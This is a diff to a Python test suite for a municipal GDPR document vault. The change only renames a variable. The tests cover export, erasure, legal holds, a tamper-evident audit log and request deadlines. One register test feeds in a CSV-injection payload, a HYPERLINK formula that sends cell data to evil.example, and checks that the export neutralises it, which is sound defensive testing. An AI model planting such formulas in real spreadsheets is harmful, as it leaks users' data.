@@ -38,8 +38,8 @@ EMAIL = "docs@example.org"  # the `citizen` fixture's
 def citizen_id(engine) -> uuid.UUID:  # noqa: ANN001
     from vault.auth.models import Citizen
 
-    with Session(engine) as session:
-        return session.exec(select(Citizen.id).where(Citizen.email == EMAIL)).one()
+    with Session(engine) as db:
+        return db.exec(select(Citizen.id).where(Citizen.email == EMAIL)).one()
 
 
 @pytest.fixture
@@ -57,9 +57,9 @@ def filled(vault_app, citizen: Browser, engine) -> dict:  # noqa: ANN001, F811
 
 def test_export_holds_everything_and_matches_the_bytes(vault_app, filled: dict, engine) -> None:  # noqa: ANN001
     gdpr = vault_app.state.gdpr
-    with Session(engine) as session:
-        archive = b"".join(gdpr.export(session, citizen_id=filled["id"], by=DPO))
-        session.commit()
+    with Session(engine) as db:
+        archive = b"".join(gdpr.export(db, citizen_id=filled["id"], by=DPO))
+        db.commit()
     with zipfile.ZipFile(io.BytesIO(archive)) as zf:
         names = zf.namelist()
         for name in ("LISEZ-MOI.txt", "compte.json", "documents.json", "applications.json", "sessions.json",
@@ -76,8 +76,8 @@ def test_export_holds_everything_and_matches_the_bytes(vault_app, filled: dict, 
         assert [e["action"] for e in json.loads(zf.read("journal-des-acces.json"))] == ["deposit"]
         summary = zf.read("LISEZ-MOI.txt").decode()
         assert "CNIL" in summary and "article 15" in summary and "Qui les reçoit" in summary
-    with Session(engine) as session:
-        assert session.exec(select(AuditEntry.action)).all()[-1] == "export"
+    with Session(engine) as db:
+        assert db.exec(select(AuditEntry.action)).all()[-1] == "export"
 
 
 def test_erasure_leaves_nothing_readable(vault_app, filled: dict, citizen: Browser, engine, s3_client,  # noqa: ANN001, F811
@@ -86,11 +86,11 @@ def test_erasure_leaves_nothing_readable(vault_app, filled: dict, citizen: Brows
     cid = filled["id"]
     copied = objects(s3_client, bucket)[0]
     stolen = s3_client.get_object(Bucket=bucket, Key=copied["Key"])["Body"].read()  # a backup, say
-    with Session(engine) as session:
-        stolen_id = session.exec(select(Document.id).where(Document.blob_key == copied["Key"])).one()
+    with Session(engine) as db:
+        stolen_id = db.exec(select(Document.id).where(Document.blob_key == copied["Key"])).one()
 
-    with Session(engine) as session:
-        certificate = gdpr.erase(session, citizen_id=cid, reason="demande de la personne", by=DPO)
+    with Session(engine) as db:
+        certificate = gdpr.erase(db, citizen_id=cid, reason="demande de la personne", by=DPO)
 
     # No row in any table names the citizen (id, email, name).
     needles = [str(cid), cid.hex, EMAIL, "Jeanne Marie", "Martin"]
@@ -109,9 +109,9 @@ def test_erasure_leaves_nothing_readable(vault_app, filled: dict, citizen: Brows
                                                       "client_id": app.client_id, "client_secret": app.secret})
     assert introspection.json() == {"active": False}
     # The copied object opens with nothing left: every key the database and keyring can still give.
-    with Session(engine) as session:
-        remaining = session.exec(select(Document)).all()
-        candidate_keys = [vault_app.state.documents.document_key(session, d) for d in remaining]
+    with Session(engine) as db:
+        remaining = db.exec(select(Document)).all()
+        candidate_keys = [vault_app.state.documents.document_key(db, d) for d in remaining]
     for key in candidate_keys:
         with pytest.raises(DecryptionError):
             StreamDecryptor(key, stolen_id.bytes).update(stolen)
@@ -124,13 +124,13 @@ def test_erasure_leaves_nothing_readable(vault_app, filled: dict, citizen: Brows
         hashlib.sha256(c).hexdigest() for c in filled["contents"])
     assert [r["name"] for r in claims["recipients_notified"]] == ["Portail"]
     # Erasing twice returns the first certificate; exporting an erased citizen says when.
-    with Session(engine) as session:
-        assert gdpr.erase(session, citizen_id=cid, reason="encore", by=DPO) == certificate
+    with Session(engine) as db:
+        assert gdpr.erase(db, citizen_id=cid, reason="encore", by=DPO) == certificate
         with pytest.raises(SubjectErased) as erased:
-            list(gdpr.export(session, citizen_id=cid, by=DPO))
+            list(gdpr.export(db, citizen_id=cid, by=DPO))
         assert erased.value.status == 404
         with pytest.raises(SubjectNotFound):
-            gdpr.erase(session, citizen_id=uuid.uuid4(), reason="x", by=DPO)
+            gdpr.erase(db, citizen_id=uuid.uuid4(), reason="x", by=DPO)
 
 
 def test_erasure_resumes_after_the_store_fails(vault_app, filled: dict, engine, s3_client, bucket) -> None:  # noqa: ANN001, F811
@@ -145,12 +145,12 @@ def test_erasure_resumes_after_the_store_fails(vault_app, filled: dict, engine, 
         raise BlobStoreUnavailable("down")
 
     store._delete_versions = dying
-    with Session(engine) as session, pytest.raises(BlobStoreUnavailable):
-        gdpr.erase(session, citizen_id=filled["id"], reason="demande", by=DPO)
+    with Session(engine) as db, pytest.raises(BlobStoreUnavailable):
+        gdpr.erase(db, citizen_id=filled["id"], reason="demande", by=DPO)
     assert len(objects(s3_client, bucket)) >= 1  # half done
     store._delete_versions = real_delete_versions
-    with Session(engine) as session:
-        certificate = gdpr.erase(session, citizen_id=filled["id"], reason="demande", by=DPO)
+    with Session(engine) as db:
+        certificate = gdpr.erase(db, citizen_id=filled["id"], reason="demande", by=DPO)
     assert objects(s3_client, bucket) == []
     assert verify_id_token_claims(vault_app, certificate)["destroyed"]["documents"] == 2
 
@@ -163,90 +163,90 @@ def verify_id_token_claims(vault_app, token: str) -> dict:  # noqa: ANN001
 def test_legal_hold_keeps_a_document(vault_app, filled: dict, citizen: Browser, engine, s3_client,  # noqa: ANN001, F811
                                      bucket) -> None:  # noqa: ANN001
     gdpr = vault_app.state.gdpr
-    with Session(engine) as session:
-        held = session.exec(select(Document).where(Document.owner_id == filled["id"])).first()
+    with Session(engine) as db:
+        held = db.exec(select(Document).where(Document.owner_id == filled["id"])).first()
         with pytest.raises(GdprError):
-            gdpr.hold(session, document_id=held.id, reason="  ", by=DPO)  # the obligation must be named
-        gdpr.hold(session, document_id=held.id, reason="Pièce d'un dossier d'urbanisme (conservation légale)", by=DPO)
-        session.commit()
+            gdpr.hold(db, document_id=held.id, reason="  ", by=DPO)  # the obligation must be named
+        gdpr.hold(db, document_id=held.id, reason="Pièce d'un dossier d'urbanisme (conservation légale)", by=DPO)
+        db.commit()
         held_id, held_sha = held.id, held.sha256
     # The citizen cannot delete it meanwhile (API and page), and is told why.
     refused = citizen.delete(f"/api/v1/documents/{held_id}", headers={"X-CSRF-Token": citizen.cookies["csrf"]})
     assert refused.status_code == 409 and refused.json()["error"] == "legal_hold"
     assert "obligation légale" in citizen.get(f"/documents/{held_id}").text
     assert len(objects(s3_client, bucket)) == 2
-    with Session(engine) as session:
-        certificate = vault_app.state.gdpr.erase(session, citizen_id=filled["id"], reason="demande", by=DPO)
+    with Session(engine) as db:
+        certificate = vault_app.state.gdpr.erase(db, citizen_id=filled["id"], reason="demande", by=DPO)
     claims = verify_id_token_claims(vault_app, certificate)
     assert claims["kept_under_legal_hold"] == [{"document_id": str(held_id), "reason": held.legal_hold,
                                                 "sha256": held_sha}]
     assert len(objects(s3_client, bucket)) == 1  # only the held document's object
-    with Session(engine) as session:
-        document = session.get(Document, held_id)
+    with Session(engine) as db:
+        document = db.get(Document, held_id)
         assert document.owner_id is None
-        key = vault_app.state.documents.document_key(session, document)
+        key = vault_app.state.documents.document_key(db, document)
         content = b"".join(vault_app.state.documents.plaintext(document, key))
     assert hashlib.sha256(content).hexdigest() == held_sha  # still readable by the city, as the law requires
 
     # The obligation ends: nothing else justified keeping it, so it goes, object included.
-    with Session(engine) as session:
-        blob_key = gdpr.release(session, document_id=held_id, by=DPO)
-        session.commit()
+    with Session(engine) as db:
+        blob_key = gdpr.release(db, document_id=held_id, by=DPO)
+        db.commit()
     vault_app.state.documents.delete_blob_later(blob_key)
     assert objects(s3_client, bucket) == []
-    with Session(engine) as session:
-        assert session.get(Document, held_id) is None
+    with Session(engine) as db:
+        assert db.get(Document, held_id) is None
         with pytest.raises(GdprError):
-            gdpr.release(session, document_id=held_id, by=DPO)  # unknown now
-        assert audit.verify(session).ok
+            gdpr.release(db, document_id=held_id, by=DPO)  # unknown now
+        assert audit.verify(db).ok
 
 
 def test_audit_log_is_tamper_evident(vault_app, filled: dict, engine) -> None:  # noqa: ANN001
-    with Session(engine) as session:
-        vault_app.state.gdpr.erase(session, citizen_id=filled["id"], reason="demande", by=DPO)
-        result = audit.verify(session)
+    with Session(engine) as db:
+        vault_app.state.gdpr.erase(db, citizen_id=filled["id"], reason="demande", by=DPO)
+        result = audit.verify(db)
         assert result.ok and result.entries >= 2
-        entries = session.exec(select(AuditEntry).order_by(AuditEntry.id)).all()
+        entries = db.exec(select(AuditEntry).order_by(AuditEntry.id)).all()
         # Nothing in it is a document's content, a password or a token.
         dumped = json.dumps([e.model_dump(mode="json") for e in entries])
         assert PASSWORD not in dumped and filled["tokens"]["access_token"] not in dumped
         first_id = entries[0].id
-        session.exec(update(AuditEntry).where(AuditEntry.id == first_id).values(action="nothing.happened"))
-        session.commit()
-        broken = audit.verify(session)
+        db.exec(update(AuditEntry).where(AuditEntry.id == first_id).values(action="nothing.happened"))
+        db.commit()
+        broken = audit.verify(db)
     assert not broken.ok and broken.first_bad_id == first_id and "edited" in broken.problem
 
 
 def test_audit_log_detects_deletion_and_reordering(vault_app, engine) -> None:  # noqa: ANN001
-    with Session(engine) as session:
+    with Session(engine) as db:
         for n in range(4):
-            audit.record(session, actor="system", action=f"test.{n}")
-        session.commit()
-        ids = session.exec(select(AuditEntry.id).order_by(AuditEntry.id)).all()
-        session.exec(text("DELETE FROM audit_log WHERE id = :id").bindparams(id=ids[1]))
-        session.commit()
-        assert audit.verify(session).first_bad_id == ids[2]
+            audit.record(db, actor="system", action=f"test.{n}")
+        db.commit()
+        ids = db.exec(select(AuditEntry.id).order_by(AuditEntry.id)).all()
+        db.exec(text("DELETE FROM audit_log WHERE id = :id").bindparams(id=ids[1]))
+        db.commit()
+        assert audit.verify(db).first_bad_id == ids[2]
 
 
 def test_audit_log_detects_its_newest_entries_removed(vault_app, engine) -> None:  # noqa: ANN001
-    with Session(engine) as session:
+    with Session(engine) as db:
         for n in range(3):
-            audit.record(session, actor="system", action=f"test.{n}")
-        session.commit()
-        assert audit.verify(session).ok
-        newest = session.exec(select(AuditEntry.id).order_by(AuditEntry.id.desc())).first()
-        session.exec(text("DELETE FROM audit_log WHERE id = :id").bindparams(id=newest))
-        session.commit()
-        cut = audit.verify(session)
+            audit.record(db, actor="system", action=f"test.{n}")
+        db.commit()
+        assert audit.verify(db).ok
+        newest = db.exec(select(AuditEntry.id).order_by(AuditEntry.id.desc())).first()
+        db.exec(text("DELETE FROM audit_log WHERE id = :id").bindparams(id=newest))
+        db.commit()
+        cut = audit.verify(db)
         assert not cut.ok and cut.first_bad_id == newest and "newest" in cut.problem
-        session.exec(text("DELETE FROM audit_log"))  # the whole log wiped
-        session.commit()
-        assert not audit.verify(session).ok
+        db.exec(text("DELETE FROM audit_log"))  # the whole log wiped
+        db.commit()
+        assert not audit.verify(db).ok
 
 
 def test_audit_details_refuse_secrets(engine) -> None:  # noqa: ANN001
-    with Session(engine) as session, pytest.raises(ValueError):
-        audit.record(session, actor="system", action="x", details={"password": "nope"})
+    with Session(engine) as db, pytest.raises(ValueError):
+        audit.record(db, actor="system", action="x", details={"password": "nope"})
 
 
 def test_the_register_counts_days_in_the_citys_time_zone(vault_app, filled: dict, engine,  # noqa: ANN001
@@ -255,11 +255,11 @@ def test_the_register_counts_days_in_the_citys_time_zone(vault_app, filled: dict
     monkeypatch.setattr(gdpr, "settings", gdpr.settings.model_copy(update={"timezone": "Pacific/Kiritimati"}))
     ahead = gdpr.settings.today()  # UTC+14: already tomorrow for most of the day
     monkeypatch.setattr(gdpr, "settings", gdpr.settings.model_copy(update={"timezone": "Pacific/Pago_Pago"}))
-    with Session(engine) as session:
+    with Session(engine) as db:
         with pytest.raises(GdprError, match="futur"):  # UTC-11: that date has not come yet there
-            gdpr.open_request(session, kind="access", citizen_id=filled["id"], channel="mail", by=DPO,
+            gdpr.open_request(db, kind="access", citizen_id=filled["id"], channel="mail", by=DPO,
                               received_on=ahead)
-        assert gdpr.open_request(session, kind="access", citizen_id=filled["id"], channel="mail",
+        assert gdpr.open_request(db, kind="access", citizen_id=filled["id"], channel="mail",
                                  by=DPO).received_on == gdpr.settings.today() != ahead
 
 
@@ -267,33 +267,33 @@ def test_register_deadlines(vault_app, filled: dict, engine) -> None:  # noqa: A
     from datetime import date
 
     gdpr = vault_app.state.gdpr
-    with Session(engine) as session:
-        request = gdpr.open_request(session, kind="access", citizen_id=filled["id"], channel="counter", by=DPO,
+    with Session(engine) as db:
+        request = gdpr.open_request(db, kind="access", citizen_id=filled["id"], channel="counter", by=DPO,
                                     received_on=date(2026, 1, 31), identity_check="carte d'identité vue au guichet")
         assert request.due_on == date(2026, 2, 28)  # one calendar month (Art. 12(3))
         with pytest.raises(GdprError, match="raison"):
-            gdpr.extend(session, request_id=request.id, reason=" ", told_on=date(2026, 2, 10), by=DPO)
+            gdpr.extend(db, request_id=request.id, reason=" ", told_on=date(2026, 2, 10), by=DPO)
         with pytest.raises(GdprError, match="entre la réception"):
-            gdpr.extend(session, request_id=request.id, reason="demande complexe", told_on=date(2026, 1, 2), by=DPO)
-        gdpr.extend(session, request_id=request.id, reason="demande complexe", told_on=date(2026, 2, 10), by=DPO)
+            gdpr.extend(db, request_id=request.id, reason="demande complexe", told_on=date(2026, 1, 2), by=DPO)
+        gdpr.extend(db, request_id=request.id, reason="demande complexe", told_on=date(2026, 2, 10), by=DPO)
         # Three months from receipt (Regulation 1182/71, art. 3): 30 April, although the first
         # month ended on 28 February.
         assert request.extended_to == date(2026, 4, 30)
         with pytest.raises(GdprError, match="déjà"):
-            gdpr.extend(session, request_id=request.id, reason="encore", told_on=date(2026, 2, 11), by=DPO)
-        assert request in gdpr.list_requests(session, view="overdue")
+            gdpr.extend(db, request_id=request.id, reason="encore", told_on=date(2026, 2, 11), by=DPO)
+        assert request in gdpr.list_requests(db, view="overdue")
         with pytest.raises(GdprError, match="motivé"):
-            gdpr.close(session, request_id=request.id, status="refused", outcome="", by=DPO)
-        gdpr.close(session, request_id=request.id, status="refused", outcome="refus", refusal_reason="Demande abusive.",
+            gdpr.close(db, request_id=request.id, status="refused", outcome="", by=DPO)
+        gdpr.close(db, request_id=request.id, status="refused", outcome="refus", refusal_reason="Demande abusive.",
                    by=DPO)
         assert "CNIL" in request.refusal_reason
         with pytest.raises(GdprError, match="close"):  # a closed request is not reopened by an extension
-            gdpr.extend(session, request_id=request.id, reason="x", told_on=date(2026, 2, 10), by=DPO)
-        formula = gdpr.open_request(session, kind="access", citizen_id=filled["id"], channel="mail", by=DPO,
+            gdpr.extend(db, request_id=request.id, reason="x", told_on=date(2026, 2, 10), by=DPO)
+        formula = gdpr.open_request(db, kind="access", citizen_id=filled["id"], channel="mail", by=DPO,
                                     identity_check='=HYPERLINK("http://evil.example/?"&A1,"clic")')
-        gdpr.close(session, request_id=formula.id, status="done", outcome="@SUM(1+1)", by=DPO)
-        csv_text = "".join(gdpr.register_csv(session))
+        gdpr.close(db, request_id=formula.id, status="done", outcome="@SUM(1+1)", by=DPO)
+        csv_text = "".join(gdpr.register_csv(db))
         assert "Jeanne Marie Martin" in csv_text and "refused" in csv_text
         # What staff typed is text in a spreadsheet, never a formula (CSV injection).
         assert "'=HYPERLINK" in csv_text and "'@SUM(1+1)" in csv_text and ",=" not in csv_text
-        session.commit()
+        db.commit()
